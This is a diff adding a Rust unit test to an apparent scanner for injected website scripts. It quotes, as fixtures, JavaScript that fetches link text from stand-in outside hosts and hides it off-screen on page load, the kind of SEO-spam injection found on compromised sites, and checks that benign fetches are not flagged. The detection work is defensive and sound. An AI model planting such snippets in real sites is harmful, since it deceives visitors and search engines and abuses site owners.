@@ -310,3 +310,26 @@ fn a_packed_library_is_not_a_finding() {
     let push = "var bp=document.createElement('script');bp.src='https://zz.bdstatic.com/linksubmit/push.js';var s=document.getElementsByTagName('script')[0];s.parentNode.insertBefore(bp,s);";
     assert_eq!(found(&packed(push)), None);
 }
+
+#[test]
+fn text_fetched_from_another_site_and_put_off_screen_is_found() {
+    // fresh53's `min.js`: links served from the intruder's host, put where no visitor sees them.
+    let spam = r#"document.addEventListener("DOMContentLoaded", function() {
+    fetch("https://shop-links.example/a/b/roll.txt").then(r => r.text()).then(text => {
+        var div = document.createElement("div"); div.innerHTML = text;
+        div.style.position = "absolute"; div.style.left = "-9999rem";
+        document.body.insertBefore(div, document.body.lastChild);
+    });
+});"#;
+    assert_eq!(found(spam), Some(Danger::High));
+    let xhr = "var x = new XMLHttpRequest(); x.open('GET', 'https://links.example.org/l.txt'); x.onload = function () { var d = document.createElement('div'); d.setAttribute('style', 'position:absolute;top:-10000px'); d.innerHTML = x.responseText; document.body.appendChild(d); }; x.send();";
+    assert_eq!(found(xhr), Some(Danger::High));
+    // A site's own fragment shown on screen, and an off-screen element that holds no fetched text.
+    for own in [
+        r#"fetch("https://api.example.com/news.html").then(r => r.text()).then(t => { document.getElementById("news").innerHTML = t; });"#,
+        r#"fetch("/fragments/menu.html").then(r => r.text()).then(t => { var d = document.createElement("div"); d.innerHTML = t; d.style.left = "-9999px"; });"#,
+        "var a = document.createElement('div'); a.style.left = '-9999px'; a.innerHTML = '&nbsp;'; document.body.appendChild(a);",
+    ] {
+        assert_eq!(found(own), None, "{own}");
+    }
+}
